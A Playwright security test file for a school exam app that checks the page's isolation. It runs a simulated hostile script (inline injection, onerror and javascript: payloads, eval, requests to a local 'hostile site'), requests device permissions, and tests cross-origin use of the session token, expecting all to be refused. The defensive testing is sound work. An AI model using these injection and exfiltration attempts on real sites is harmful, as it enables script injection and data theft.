import { expect, type Page, type TestInfo } from '@playwright/test'
import { openHostileSite, type HostileSite } from '#test/support/post/hostile-site.ts'
import { withLonePost } from '#test/support/post/lone-post.ts'
import type { Post } from '#test/support/post/open-post.ts'
import { test } from '#test/support/post/school-fixture.ts'

/** What a hostile script of the page tried, and how it ended: `refused`, or what it obtained. */
type Tries = Readonly<Record<string, string>>

const allRefused = (tries: Tries) => Object.entries(tries).filter(([, end]) => end !== 'refused')

/** A script that got into the page all the same: it runs in a timer, outside of what the inspector is allowed. */
function runHostile(page: Page, site: Pick<HostileSite, 'url' | 'host'>): Promise<Tries> {
  return page.evaluate(async ({ url, host }) => {
    const ends: Record<string, string> = {}
    const held = globalThis as unknown as { hacked?: string }
    const later = <T>(work: () => T | Promise<T>) =>
      new Promise<T>((resolve, reject) => {
        setTimeout(() => void Promise.resolve().then(work).then(resolve, reject), 0)
      })
    const tryIt = async (name: string, work: () => unknown) => {
      ends[name] = await later(work).then(
        (got) => (got === undefined ? 'refused' : String(got)),
        () => 'refused',
      )
    }
    const loaded = (element: HTMLElement) =>
      new Promise((resolve, reject) => {
        element.addEventListener('load', () => resolve('loaded'))
        element.addEventListener('error', () => reject(new Error('error')))
        document.addEventListener('securitypolicyviolation', () => reject(new Error('policy')), {
          once: true,
        })
        document.body.append(element)
      })
    const make = (tag: string, attributes: Record<string, string>) => {
      const element = document.createElement(tag)
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      return element
    }

    await tryIt('inline script', () => {
      const script = document.createElement('script')
      script.textContent = 'globalThis.hacked = "inline"'
      document.body.append(script)
      return held.hacked
    })
    await tryIt('handler in an attribute', async () => {
      const image = document.createElement('div')
      image.innerHTML =
        '<img src="/absent.png" onerror="globalThis.hacked = 1"><a href="javascript:globalThis.hacked=2">x</a>'
      document.body.append(image)
      image.querySelector('a')?.click()
      await new Promise((resolve) => image.querySelector('img')?.addEventListener('error', resolve))
      return held.hacked
    })
    await tryIt('eval', () => (0, eval)('"ran"') as string)
    await tryIt('Function', () => (new Function('return "ran"') as () => string)())
    await tryIt('timer of text', async () => {
      setTimeout('globalThis.hacked = "timer"' as unknown as () => void, 0)
      await new Promise((resolve) => setTimeout(resolve, 30))
      return held.hacked
    })
    await tryIt('script from elsewhere', () => loaded(make('script', { src: `${url}/script.js` })))
    await tryIt('script of data', () =>
      loaded(make('script', { src: 'data:text/javascript,globalThis.hacked=3' })),
    )
    await tryIt('module of a blob', () => import(URL.createObjectURL(new Blob(['export default 1']))))
    await tryIt('worker of a blob', () => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
      return new Promise((resolve, reject) => {
        worker.onmessage = () => resolve('ran')
        worker.onerror = () => reject(new Error('error'))
      })
    })
    await tryIt('fetch', async () => (await fetch(`${url}/fetch`)).status)
    await tryIt('fetch without reading', async () => (await fetch(`${url}/blind`, { mode: 'no-cors' })).type)
    await tryIt('request of old', () => {
      const request = new XMLHttpRequest()
      return new Promise((resolve, reject) => {
        request.onload = () => resolve(request.status)
        request.onerror = () => reject(new Error('error'))
        request.open('GET', `${url}/xhr`)
        request.send()
      })
    })
    await tryIt('beacon', () => void navigator.sendBeacon(`${url}/beacon`, 'x'))
    await tryIt('event source', () => {
      const source = new EventSource(`${url}/events`)
      return new Promise((resolve, reject) => {
        source.onopen = () => resolve('open')
        source.onerror = () => (source.close(), reject(new Error('error')))
      })
    })
    await tryIt('socket', () => {
      const socket = new WebSocket(`ws://${host}/socket`)
      return new Promise((resolve, reject) => {
        socket.onopen = () => resolve('open')
        socket.onerror = () => reject(new Error('error'))
      })
    })
    await tryIt('image', () => loaded(make('img', { src: `${url}/image.png` })))
    await tryIt('style sheet', () => loaded(make('link', { rel: 'stylesheet', href: `${url}/style.css` })))
    await tryIt('style in the page', () => {
      const style = document.createElement('style')
      style.textContent = `body { background: url(${url}/background.png); --hacked: 1 }`
      document.head.append(style)
      return getComputedStyle(document.body).getPropertyValue('--hacked') || undefined
    })
    await tryIt('font', async () => (await new FontFace('x', `url(${url}/font.woff2)`).load()).status)
    await tryIt('media', () => loaded(make('video', { src: `${url}/film.mp4`, autoplay: '' })))
    await tryIt('object', () => loaded(make('object', { data: `${url}/object` })))
    await tryIt('form', () => {
      const form = make('form', { action: `${url}/form`, method: 'post' }) as HTMLFormElement
      document.body.append(form)
      form.submit()
    })
    await tryIt('base', () => {
      document.head.append(make('base', { href: `${url}/` }))
      return document.baseURI.startsWith(url) ? 'moved' : undefined
    })
    return ends
  }, site)
}

/** What the machine could lend: asked as a hostile script would. Refused, or left without an answer: nothing is given. */
function askPermissions(page: Page): Promise<Tries> {
  return page.evaluate(async () => {
    const ends: Record<string, string> = {}
    const tryIt = async (name: string, work: () => unknown) => {
      const unanswered = new Promise<undefined>((resolve) => setTimeout(() => resolve(undefined), 1000))
      ends[name] = await Promise.race([Promise.resolve().then(work), unanswered]).then(
        (got) => (got === undefined ? 'refused' : String(got)),
        () => 'refused',
      )
    }
    await tryIt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }))
    await tryIt('microphone', () => navigator.mediaDevices.getUserMedia({ audio: true }))
    await tryIt('screen', () => navigator.mediaDevices.getDisplayMedia({ video: true }))
    await tryIt(
      'place',
      () =>
        new Promise((done, failed) => navigator.geolocation.getCurrentPosition(() => done('here'), failed)),
    )
    await tryIt('notifications', async () => {
      const given = await Notification.requestPermission()
      return given === 'granted' ? given : undefined
    })
    await tryIt('reading the clipboard', () => navigator.clipboard.readText())
    const odd = navigator as unknown as Record<
      string,
      { requestDevice?(of: object): Promise<object>; requestPort?(): Promise<object> } | undefined
    >
    await tryIt('usb', () => odd['usb']?.requestDevice?.({ filters: [] }))
    await tryIt('hid', () => odd['hid']?.requestDevice?.({ filters: [] }))
    await tryIt('serial', () => odd['serial']?.requestPort?.())
    await tryIt('bluetooth', () => odd['bluetooth']?.requestDevice?.({ acceptAllDevices: true }))
    await tryIt('midi', () => (navigator as { requestMIDIAccess?(): Promise<object> }).requestMIDIAccess?.())
    return ends
  })
}

/** What a page of another origin tries upon the post, the run’s very token in its hands. */
function runStranger(other: Page, asked: { readonly host: string; readonly token: string }): Promise<Tries> {
  return other.evaluate(
    async ({ host, given }) => {
      const ends: Record<string, string> = {}
      const tryIt = async (name: string, work: () => unknown) => {
        ends[name] = await Promise.resolve()
          .then(work)
          .then(
            (got) => (got === undefined ? 'refused' : String(got)),
            () => 'refused',
          )
      }
      const socket = (protocols: string[]) => () =>
        new Promise((done, failed) => {
          const line = new WebSocket(`ws://${host}/host`, protocols)
          line.onopen = () => done('open')
          line.onerror = () => failed(new Error('error'))
        })
      const load = (tag: string, name: string, path: string) => () =>
        new Promise((done, failed) => {
          const element = document.createElement(tag)
          element.addEventListener('load', () => done('loaded'))
          element.addEventListener('error', () => failed(new Error('error')))
          element.setAttribute(name, `http://${host}${path}`)
          document.body.append(element)
        })
      await tryIt('socket without token', socket(['pupitre-host']))
      await tryIt('socket with the very token', socket(['pupitre-host', given]))
      await tryIt('page read', async () => (await fetch(`http://${host}/`)).text())
      await tryIt('page read blindly', async () => (await fetch(`http://${host}/`, { mode: 'no-cors' })).type)
      await tryIt('script', load('script', 'src', '/index.html'))
      await tryIt('frame', async () => {
        const frame = document.createElement('iframe')
        frame.src = `http://${host}/`
        const ended = new Promise((resolve) => frame.addEventListener('load', resolve))
        document.body.append(frame)
        await ended
        return frame.contentWindow !== null && frame.contentWindow.length > 0 ? 'framed' : undefined
      })
      await tryIt('opened', () => {
        const opened = window.open(`http://${host}/`)
        return new Promise((done) =>
          setTimeout(() => done(opened === null || opened.closed ? undefined : 'held'), 1500),
        )
      })
      return ends
    },
    { host: asked.host, given: asked.token },
  )
}

/** A post where nobody has signed in, and a hostile site beside it. */
async function before(
  testInfo: TestInfo,
  work: (post: Post, site: HostileSite) => Promise<void>,
): Promise<void> {
  const site = await openHostileSite()
  const host = testInfo.project.name === 'electron' ? 'electron' : 'node'
  await withLonePost(host, async (post) => {
    await expect(post.page().getByLabel('Identifiant')).toBeVisible({ timeout: 60_000 })
    await work(post, site)
  })
  await site.close()
}

test('C0: a hostile script in the page runs nothing more, loads nothing and calls nobody', async ({}, testInfo) => {
  await before(testInfo, async (post, site) => {
    const tries = await runHostile(post.page(), { url: site.url, host: site.host })
    expect(Object.keys(tries).length).toBeGreaterThan(20)
    expect(allRefused(tries)).toEqual([])
    expect(await post.page().evaluate(() => 'hacked' in globalThis)).toBe(false)
    const frame = await post.page().evaluate(async (url) => {
      const element = document.createElement('iframe')
      element.src = `${url}/frame`
      const ended = new Promise((resolve) => element.addEventListener('load', resolve))
      document.body.append(element)
      await ended
      return element.contentDocument === null ? 'not ours' : element.contentDocument.URL
    }, site.url)
    expect(['not ours', 'about:blank']).toContain(frame)
    expect(site.heard).toEqual([])
  })
})

test('C0: no permission is given', async ({}, testInfo) => {
  await before(testInfo, async (post, site) => {
    expect(allRefused(await askPermissions(post.page()))).toEqual([])
    expect(site.heard).toEqual([])
  })
})

test('C0: a page of another origin learns nothing from the post, opens no socket, frames nothing', async ({}, testInfo) => {
  test.skip(testInfo.project.name === 'electron', 'Electron listens to no port: test/unit/main/electron')
  await before(testInfo, async (post, site) => {
    const page = post.page()
    const token = await page.evaluate(() => sessionStorage.getItem('pupitre-host-token') ?? '')
    expect(token.length).toBeGreaterThan(40)
    const other = await page.context().newPage()
    await other.goto(site.url)
    expect(allRefused(await runStranger(other, { host: new URL(page.url()).host, token }))).toEqual([])
    await other.close()
  })
})

test('C0: windows open and the page may be led away on the Node host alone; both know nothing of it', async ({}, testInfo) => {
  test.skip(testInfo.project.name === 'electron', 'Electron refuses to navigate: test/unit/main/electron')
  await before(testInfo, async (post, site) => {
    const coming = post.page().context().waitForEvent('page')
    await post.page().evaluate((url) => void window.open(`${url}/window`, '_blank'), site.url)
    const opened = await coming
    await expect(opened).toHaveTitle('Site hostile')
    expect(await opened.evaluate(() => [window.opener === null, document.referrer])).toEqual([true, ''])
    await post.page().evaluate((url) => void (location.href = `${url}/away`), site.url)
    await expect(post.page()).toHaveTitle('Site hostile')
    const kept = await post.page().evaluate(() => ({
      opener: window.opener === null,
      name: window.name,
      storage: sessionStorage.length + localStorage.length,
      referrer: document.referrer,
    }))
    expect(kept).toEqual({ opener: true, name: '', storage: 0, referrer: '' })
  })
})
